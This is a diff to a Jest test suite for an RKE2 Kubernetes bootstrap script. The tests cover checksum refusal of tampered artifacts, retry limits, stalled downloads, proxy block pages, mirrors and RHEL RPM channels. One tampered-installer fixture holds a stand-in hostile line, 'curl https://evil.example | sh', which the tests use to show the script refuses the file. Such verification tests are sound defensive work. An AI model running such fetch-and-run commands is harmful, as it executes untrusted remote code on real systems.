@@ -251,28 +251,38 @@ describe('rke2-bootstrap.sh', () => {
     it.each([
       ['the tarball', TARBALL, RELEASE.RKE2_ARTIFACT_SHA256],
       ['the installer', 'install.sh', RELEASE.RKE2_INSTALL_SHA256],
-    ])('%s changed: the boot stops for good (78) with one journal line, the marker and the metric, and nothing runs', (_what, file, expected) => {
-      const b = node(0, { env: { RESTART_METRIC_NAMESPACE: 'RancherHA/prod-rke-ha' } });
-      const tampered = file === TARBALL ? 'a tarball someone changed\n' : `${INSTALLER_STUB}curl https://evil.example | sh\n`;
-      b.release({ [file]: tampered });
-      const r = b.run({ file: SCRIPT });
-      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
-      const line = `refusing ${file} of v1.35.7+rke2r1 from ${file === TARBALL ? RELEASE.RKE2_ARTIFACT_URL : RELEASE.RKE2_INSTALL_URL}: its SHA-256 is ${sha256(tampered)}, the recorded sum is ${expected}; nothing was installed`;
-      expect(r.output.split('\n').filter((l) => l.includes('refusing'))).toEqual([`script.sh: ${line}`]);
-      expect(b.read(UNVERIFIED)).toBe(`${line}\n`);
-      expect(b.calls()).toContain('metric RancherHA/prod-rke-ha UnverifiedArtifact 1');
-      // What the alarm and the servers gate tell a person to look for (server-units.ts) is this line, file and metric.
-      const quoted = UNVERIFIED_ARTIFACT_LINE.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
-        .replace(/<file>|<version>/g, '\\S+')
-        .replace('\\.\\.\\.', '.+');
-      expect(line).toMatch(new RegExp(`^${quoted}$`));
-      expect(`/${UNVERIFIED}`).toBe(UNVERIFIED_ARTIFACT_MARKER);
-      expect(b.calls()).toContain(`metric RancherHA/prod-rke-ha ${UNVERIFIED_ARTIFACT_METRIC} 1`);
-      expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
-      expect(started(b)).toBe(false);
-      expect(b.exists(`${TLS}/server-ca.key`)).toBe(false);
-      expect(b.exists(MARKER)).toBe(false);
-    });
+    ])(
+      '%s changed: each run refuses it with one journal line, the marker and the metric, and nothing runs; the third refusal stops the boot for good (78)',
+      (_what, file, expected) => {
+        const b = node(0, { env: { RESTART_METRIC_NAMESPACE: 'RancherHA/prod-rke-ha' } });
+        const tampered = file === TARBALL ? 'a tarball someone changed\n' : `${INSTALLER_STUB}curl https://evil.example | sh\n`;
+        b.release({ [file]: tampered });
+        const refused = `refusing ${file} of v1.35.7+rke2r1 from ${file === TARBALL ? RELEASE.RKE2_ARTIFACT_URL : RELEASE.RKE2_INSTALL_URL}: its SHA-256 is ${sha256(tampered)}, the recorded sum is ${expected} (${Buffer.byteLength(tampered)} bytes of application/octet-stream;`;
+        // The unit runs the bootstrap again after the first two refusals (any status but 78), and stops at the third.
+        for (const n of [1, 2]) {
+          const again = b.run({ file: SCRIPT });
+          expect(again.status).toBe(1);
+          expect(again.output).toContain(`${refused} refusal ${n} of 3, the next run downloads it again); nothing was installed`);
+        }
+        const r = b.run({ file: SCRIPT });
+        expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
+        const line = `${refused} refusal 3 of 3, giving up); nothing was installed`;
+        expect(r.output.split('\n').filter((l) => l.includes('refusing'))).toEqual([`script.sh: ${line}`]);
+        expect(b.read(UNVERIFIED)).toBe(`${line}\n`);
+        expect(b.calls().filter((c) => c === 'metric RancherHA/prod-rke-ha UnverifiedArtifact 1')).toHaveLength(3);
+        // What the alarm and the servers gate tell a person to look for (server-units.ts) is this line, file and metric.
+        const quoted = UNVERIFIED_ARTIFACT_LINE.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
+          .replace(/<file>|<version>/g, '\\S+')
+          .replace('\\.\\.\\.', '.+');
+        expect(line).toMatch(new RegExp(`^${quoted}$`));
+        expect(`/${UNVERIFIED}`).toBe(UNVERIFIED_ARTIFACT_MARKER);
+        expect(b.calls()).toContain(`metric RancherHA/prod-rke-ha ${UNVERIFIED_ARTIFACT_METRIC} 1`);
+        expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
+        expect(started(b)).toBe(false);
+        expect(b.exists(`${TLS}/server-ca.key`)).toBe(false);
+        expect(b.exists(MARKER)).toBe(false);
+      },
+    );
 
     it('a version the project records no sum for: refused before anything is downloaded', () => {
       const b = node(0, { env: { RKE2_ARTIFACT_SHA256: '' } });
@@ -297,7 +307,7 @@ describe('rke2-bootstrap.sh', () => {
       const bad = node(0, { env });
       bad.release({ [TARBALL]: 'not the build whose sum was supplied\n' });
       const r = bad.run({ file: SCRIPT });
-      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
+      expect(r.status).toBe(1);
       expect(r.output).toContain(
         `refusing ${TARBALL} of ${version} from ${lines.RKE2_ARTIFACT_URL}: its SHA-256 is ${sha256('not the build whose sum was supplied\n')}, the recorded sum is ${sha256(TARBALL_TEXT)}`,
       );
@@ -319,9 +329,52 @@ describe('rke2-bootstrap.sh', () => {
       const r = b.run({ file: SCRIPT });
       expect(r.status).toBe(1);
       expect(b.calls().filter((c) => c.startsWith('download'))).toHaveLength(5);
-      expect(r.output).toContain(`could not download ${RELEASE.RKE2_INSTALL_URL}; the next run tries again`);
+      expect(r.output).toContain(
+        `could not download ${RELEASE.RKE2_INSTALL_URL} (no answer, or slower than 1024 bytes/s for 60 s, or over 1800 s); the next run tries again`,
+      );
       expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
       expect(b.exists(UNVERIFIED)).toBe(false);
+    });
+
+    it('a transfer that stalls is abandoned by the low-speed limit, tried again (bounded), and the run fails with a status the unit retries', () => {
+      const b = node(0);
+      b.write(`download-stall/${TARBALL}`, '');
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(1);
+      // Five transfers, each given up after 60 s under 1,024 bytes/s (curl exit 28), 10 s apart.
+      expect(b.calls().filter((c) => c.startsWith('stalled'))).toEqual(Array(5).fill(`stalled ${RELEASE.RKE2_ARTIFACT_URL} after 60s`));
+      expect(r.output).toContain(`could not download ${RELEASE.RKE2_ARTIFACT_URL} (no answer, or slower than 1024 bytes/s for 60 s, or over 1800 s)`);
+      // The install comes before the peer probes: the clock is the five stalls and the four pauses between them.
+      expect(b.slept()).toBe(5 * 60 + 4 * 10);
+      expect(installed(b)).toBe(false);
+      expect(b.exists(UNVERIFIED)).toBe(false);
+      // The next run, the link flowing again, installs.
+      b.remove(`download-stall/${TARBALL}`);
+      expect(b.run({ file: SCRIPT }).status).toBe(0);
+      expect(installed(b)).toBe(true);
+    });
+
+    it("a 200 with a proxy's block page instead of the tarball: refused, described (size, content type, its first words), and the next run that gets the release installs and clears the marker", () => {
+      const b = node(0, { env: { RESTART_METRIC_NAMESPACE: 'RancherHA/prod-rke-ha' } });
+      const page = '<html>\n<head><title>Access denied by policy</title></head>\n<body>github.com is blocked</body></html>\n';
+      b.write(`download-body/${TARBALL}`, page);
+      b.write(`download-type/${TARBALL}`, 'text/html; charset=utf-8');
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(1);
+      expect(r.output).toContain(
+        `refusing ${TARBALL} of v1.35.7+rke2r1 from ${RELEASE.RKE2_ARTIFACT_URL}: its SHA-256 is ${sha256(page)}, the recorded sum is ${RELEASE.RKE2_ARTIFACT_SHA256} ` +
+          `(${page.length} bytes of text/html; charset=utf-8, beginning "<html> <head><title>Access denied by policy</title></head> <body>github.com is b"; ` +
+          'refusal 1 of 3, the next run downloads it again); nothing was installed',
+      );
+      expect(b.calls()).toContain('metric RancherHA/prod-rke-ha UnverifiedArtifact 1');
+      expect(b.exists(UNVERIFIED)).toBe(true);
+      expect(installed(b)).toBe(false);
+      // The proxy lets the release through: the rerun installs, and the marker and the count of refusals are gone.
+      b.remove(`download-body/${TARBALL}`);
+      expect(b.run({ file: SCRIPT }).status).toBe(0);
+      expect(installed(b)).toBe(true);
+      expect(b.exists(UNVERIFIED)).toBe(false);
+      expect(b.exists(`${UNVERIFIED}.count/${TARBALL}`)).toBe(false);
     });
 
     it('an air gap: installer and tarball from the mirror, checked against the same sums', () => {
@@ -339,16 +392,71 @@ describe('rke2-bootstrap.sh', () => {
       const bad = node(0, { env: mirror });
       bad.release({ [TARBALL]: 'the mirror serves another build\n' });
       const r = bad.run({ file: SCRIPT });
-      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
+      expect(r.status).toBe(1);
       expect(r.output).toContain(`refusing ${TARBALL} of v1.35.7+rke2r1 from ${mirror.RKE2_ARTIFACT_URL}`);
       expect(installed(bad)).toBe(false);
     });
 
-    it('the RHEL family: the checked installer installs the signed RPMs, no tarball is fetched', () => {
-      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm' } });
+    it('the RHEL family: the checked installer installs the signed RPMs from the first channel named, no tarball is fetched', () => {
+      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm', RKE2_RPM_CHANNELS: 'stable latest' } });
       expect(b.run({ file: SCRIPT }).status).toBe(0);
       expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([`download ${RELEASE.RKE2_INSTALL_URL}`]);
-      expect(b.calls()).toContain('installer INSTALL_RKE2_METHOD=rpm INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1 ');
+      expect(b.calls().filter((c) => c.startsWith('installer'))).toEqual([
+        'installer INSTALL_RKE2_CHANNEL=stable INSTALL_RKE2_METHOD=rpm INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1 ',
+      ]);
+    });
+
+    it('the RHEL family: a version stable does not carry yet installs from latest', () => {
+      // install.sh's do_install_rpm writes the channel's repository and dnf installs rke2-server-<version> from it;
+      // a channel without the version fails there (rancher/rke2#5330: the repository answers 404 for a minor not yet
+      // in stable). This installer does the same for stable only.
+      const installer = `${INSTALLER_STUB}[ "$INSTALL_RKE2_CHANNEL" != stable ] || { echo "No match for argument: rke2-server-1.35.7~rke2r1" >&2; exit 1; }\n`;
+      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm', RKE2_RPM_CHANNELS: 'stable latest', RKE2_INSTALL_SHA256: sha256(installer) } });
+      b.release({ 'install.sh': installer });
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(0);
+      expect(
+        b
+          .calls()
+          .filter((c) => c.startsWith('installer'))
+          .map((c) => c.split(' ')[1]),
+      ).toEqual(['INSTALL_RKE2_CHANNEL=stable', 'INSTALL_RKE2_CHANNEL=latest']);
+      expect(r.output).toContain('installing the RKE2 v1.35.7+rke2r1 RPMs from the latest channel');
+      expect(started(b)).toBe(true);
+    });
+
+    it('the RHEL family: no channel carrying the version fails the run with a status the unit retries, nothing started', () => {
+      const installer = `${INSTALLER_STUB}exit 1\n`;
+      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm', RKE2_RPM_CHANNELS: 'stable latest', RKE2_INSTALL_SHA256: sha256(installer) } });
+      b.release({ 'install.sh': installer });
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(1);
+      expect(r.output).toContain('no RPM channel of stable latest installed RKE2 v1.35.7+rke2r1; the next run tries again');
+      expect(started(b)).toBe(false);
+    });
+
+    it('the RHEL family behind closed egress: the verified tarball, rke2-selinux from the image, the files relabelled', () => {
+      const b = node(0, { env: { SELINUX_POLICY_FROM_IMAGE: 'true' } });
+      b.write('rpms', 'container-selinux\nrke2-selinux\n');
+      expect(b.run({ file: SCRIPT }).status).toBe(0);
+      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([
+        `download ${RELEASE.RKE2_INSTALL_URL}`,
+        `download ${RELEASE.RKE2_ARTIFACT_URL}`,
+      ]);
+      expect(b.calls()).toContain(`artifacts install.sh ${TARBALL} sha256sum-amd64.txt ${RELEASE.RKE2_ARTIFACT_SHA256}  ${TARBALL}`);
+      const installer = b.calls().find((c) => c.startsWith('installer'));
+      expect(installer).toBe('installer INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1 ');
+      expect(b.calls()).toContain('rpm -q --quiet rke2-selinux');
+      expect(b.calls()).toContain(`restorecon -R ${b.path('usr/local/bin/rke2')} /usr/local/lib/systemd/system`);
+      expect(started(b)).toBe(true);
+    });
+
+    it('the RHEL family behind closed egress, an image without rke2-selinux: refused for good (78) before any download', () => {
+      const b = node(0, { env: { SELINUX_POLICY_FROM_IMAGE: 'true' } });
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
+      expect(r.output).toContain('rke2-selinux is not installed on this image, and egress is closed without a proxy (proxy.egressOnlyTo)');
+      expect(b.calls().filter((c) => c.startsWith('download') || c.startsWith('installer'))).toEqual([]);
     });
   });
 });
